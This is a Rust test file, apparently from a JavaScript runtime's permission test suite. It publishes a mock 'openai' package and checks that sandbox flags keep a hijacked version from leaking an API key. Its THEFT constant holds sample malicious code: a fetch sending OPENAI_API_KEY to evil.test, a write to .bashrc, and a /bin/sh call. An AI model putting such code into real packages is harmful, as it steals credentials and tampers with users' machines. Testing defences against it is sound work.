// SPDX-License-Identifier: MIT
//! `examples/ai-client` as it is shipped, with its flags: a package, one key, one host; and the same with
//! a package that was taken over.

use serde_json::json;

use super::registry::Registry;
use crate::egress::servers::{Process, certificates};
use crate::egress::world::{World, low_port};
use crate::support_life::source;

/// What the example uses of its package.
const CLIENT: &str = r#"
export default class OpenAI {
  constructor({ apiKey, baseURL }) {
    this.chat = {
      completions: {
        create: async (body) => {
          const answer = await fetch(baseURL + "/chat/completions", {
            method: "POST",
            headers: { authorization: "Bearer " + apiKey },
            body: JSON.stringify(body),
          });
          return { choices: [{ message: { content: (await answer.text()).trim() } }] };
        },
      },
    };
  }
}
"#;

/// What it does beside that once it was taken over.
const THEFT: &str = r#"
try { await fetch("https://evil.test/" + Deno.env.get("OPENAI_API_KEY")); } catch { /* unseen */ }
try { Deno.writeTextFileSync(".bashrc", "planted"); } catch { /* unseen */ }
try { await new Deno.Command("/bin/sh", { args: ["-c", ": > planted"] }).output(); } catch { /* unseen */ }
"#;

#[test]
fn the_clients_key_goes_to_its_host_alone() {
    let Some(address) = low_port(443) else {
        return;
    };
    let mut tenants = Process::tenants(address);
    let world = World::new();
    world
        .name("good.test", address.ip())
        .name("evil.test", address.ip());
    // The files as they are shipped, but for the host's name.
    let example = source().join("examples/ai-client");
    for name in ["deno.json", "src/main.ts"] {
        let text = std::fs::read_to_string(example.join(name)).unwrap();
        assert!(text.contains("openai"));
        let text = text.replace("api.openai.com", "good.test");
        world.project.write(name, &text);
    }
    let mut registry = Registry::new();
    let types = "export default class { constructor(o: object); chat: { completions: { create(b: object): Promise<{ choices: { message: { content: string } }[] }> } } }";
    let mut publish = |version: &str, code: &str| {
        registry.package(
            "openai",
            version,
            json!({"type": "module", "main": "index.js", "types": "index.d.ts"}),
            &[("index.js", code), ("index.d.ts", types)],
        );
    };
    publish("4.1.0", CLIENT);
    publish("4.2.0", &format!("{CLIENT}\n{THEFT}"));
    let url = registry.url();
    let run = |version: &str, flags: &[&str]| {
        let lock = world.project.directory().join("deno.lock");
        drop(std::fs::remove_file(lock));
        let text = world.project.read("deno.json");
        let start = text.find("npm:openai@").unwrap();
        let end = start + text[start..].find('"').unwrap();
        let text = format!("{}npm:openai@{version}{}", &text[..start], &text[end..]);
        world.project.write("deno.json", &text);
        let mut words = vec![
            "--check",
            "--allow-net=good.test",
            "--allow-env=OPENAI_API_KEY",
        ];
        words.extend(flags);
        world
            .stockade(&words, &["src/main.ts", "hello"])
            .env("NPM_CONFIG_REGISTRY", &url)
            .env("DENO_CERT", certificates().authority())
            .env("OPENAI_API_KEY", "hidden-value")
            .run()
    };
    let authority = format!("--cert={}", certificates().authority());
    let reached = "tenant good.test /v1/chat/completions\n";
    run("4.1.0", &[&authority]).expect_output(reached);
    run("4.2.0", &[&authority]).expect_output(reached);
    let evil = |tenants: &mut Process| {
        let said = tenants.said();
        said.iter().filter(|line| line.contains("evil")).count()
    };
    assert_eq!(evil(&mut tenants), 0);
    assert!(!world.project.has(".bashrc") && !world.project.has("planted"));
    // With the grants it lacks each theft succeeds.
    run(
        "4.2.0",
        &[
            &authority,
            "--allow-net=evil.test",
            "--allow-write=.",
            "--allow-run=/bin/sh",
        ],
    )
    .expect_output(reached);
    assert!(evil(&mut tenants) > 0);
    assert!(world.project.has(".bashrc") && world.project.has("planted"));
}
